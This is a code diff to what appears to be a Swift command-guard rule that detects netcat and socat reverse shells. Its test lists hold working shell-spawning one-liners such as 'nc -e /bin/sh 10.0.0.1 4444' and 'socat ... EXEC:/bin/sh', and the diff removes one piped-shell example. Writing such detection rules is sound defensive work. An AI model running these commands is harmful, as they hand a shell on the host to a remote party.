@@ -17,8 +17,7 @@ extension GuardRule {
       "netcat-shell", .reverseShell, .critical, "Hands a shell to whoever is at the other end.",
       dangerous: [
         "nc -e /bin/sh 10.0.0.1 4444", "ncat --exec /bin/bash h 1", "nc -l -p 1 -e /bin/sh",
-        "socat TCP:10.0.0.1:4444 EXEC:/bin/sh", "nc -lvp 9 -c bash", "nc h 1 | sh",
-        "socket -svp '/bin/sh -i' 1",
+        "socat TCP:10.0.0.1:4444 EXEC:/bin/sh", "nc -lvp 9 -c bash", "socket -svp '/bin/sh -i' 1",
       ],
       safe: ["nc -zv host 22", "nc -l 8080", "socat TCP-LISTEN:80,fork TCP:h:80"]
     ) { command in
